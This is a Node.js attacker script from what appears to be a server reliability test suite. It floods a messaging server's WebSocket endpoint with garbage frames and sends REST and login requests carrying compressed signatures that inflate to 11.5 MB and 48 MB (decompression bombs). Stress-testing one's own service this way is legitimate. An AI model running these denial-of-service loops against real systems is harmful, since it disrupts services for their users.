/**
 * An attacker process of the reliability suite, for `durationMs`:
 * - `flood`: one WebSocket connection to `/v1/client` that never logs in and sends `garbage` text frames as fast as
 *   the socket takes them, connecting again whenever the server closes it;
 * - `rest-bomb`: 4 loops of REST calls whose `usersig` (about 15,000 characters) inflates to 11.5 MB;
 * - `login-bomb`: 2 loops of gateway login frames (about 63 KB) whose UserSig inflates to 48 MB.
 * Prints one JSON line of what it did: connections, requests, answers by code, close codes.
 * Usage: node attacker.mjs <mode> <server url> <durationMs> <sdkAppId>
 * @module
 */
import { deflateSync } from 'node:zlib';
import { WebSocket } from 'ws';

const [mode, url, durationArg, appArg] = process.argv.slice(2);
const deadline = Date.now() + Number(durationArg);
const stats = { mode, connections: 0, sent: 0, answers: {} };
const count = (k) => (stats.answers[k] = (stats.answers[k] ?? 0) + 1);
const wsUrl = `${url.replace('http:', 'ws:')}/v1/client`;

function bomb(bytes) {
  return deflateSync(Buffer.alloc(bytes, 0x20), { level: 9 })
    .toString('base64')
    .replace(/\+/g, '*')
    .replace(/\//g, '-')
    .replace(/=/g, '_');
}

function socketLoop(onOpen) {
  return new Promise((resolve) => {
    const ws = new WebSocket(wsUrl);
    ws.on('open', () => {
      stats.connections++;
      onOpen(ws);
    });
    ws.on('message', (m) => count(/"code":(\d+)/.exec(m.toString())?.[1] ?? 'message'));
    ws.on('unexpected-response', (_req, res) => {
      count(`http ${res.statusCode}`);
      res.resume();
      ws.terminate();
    });
    ws.on('error', () => undefined);
    ws.on('close', (code) => {
      count(`close ${code}`);
      resolve();
    });
    const timer = setInterval(() => {
      if (Date.now() > deadline) ws.terminate();
    }, 50);
    ws.on('close', () => clearInterval(timer));
  });
}

async function flood() {
  while (Date.now() < deadline) {
    await socketLoop((ws) => {
      const pump = () => {
        if (ws.readyState !== WebSocket.OPEN || Date.now() > deadline) return;
        for (let i = 0; i < 1000 && ws.bufferedAmount < 256 * 1024; i++) {
          ws.send('garbage');
          stats.sent++;
        }
        setImmediate(pump);
      };
      pump();
    });
  }
}

async function restBomb() {
  const sig = bomb(11.5 * 2 ** 20);
  const q = `sdkappid=${appArg}&identifier=administrator&usersig=${sig}&random=1&contenttype=json`;
  while (Date.now() < deadline) {
    try {
      const res = await fetch(`${url}/v4/openim/admin_set_msg_read?${q}`, { method: 'POST', body: '{}' });
      count(String((await res.json()).ErrorCode));
    } catch {
      count('error');
    }
    stats.sent++;
  }
}

async function loginBomb() {
  const frame = JSON.stringify({
    id: 1,
    op: 'login',
    data: { sdkAppId: Number(appArg), userId: 'u', userSig: bomb(48 * 2 ** 20) },
  });
  while (Date.now() < deadline) {
    await socketLoop((ws) => {
      const send = () => {
        if (ws.readyState !== WebSocket.OPEN || Date.now() > deadline) return;
        ws.send(frame);
        stats.sent++;
      };
      send();
      ws.on('message', send);
    });
  }
}

const loops = mode === 'flood' ? [flood()] : mode === 'rest-bomb' ? [1, 2, 3, 4].map(restBomb) : [1, 2].map(loginBomb);
await Promise.all(loops);
process.stdout.write(`${JSON.stringify(stats)}\n`);
process.exit(0);
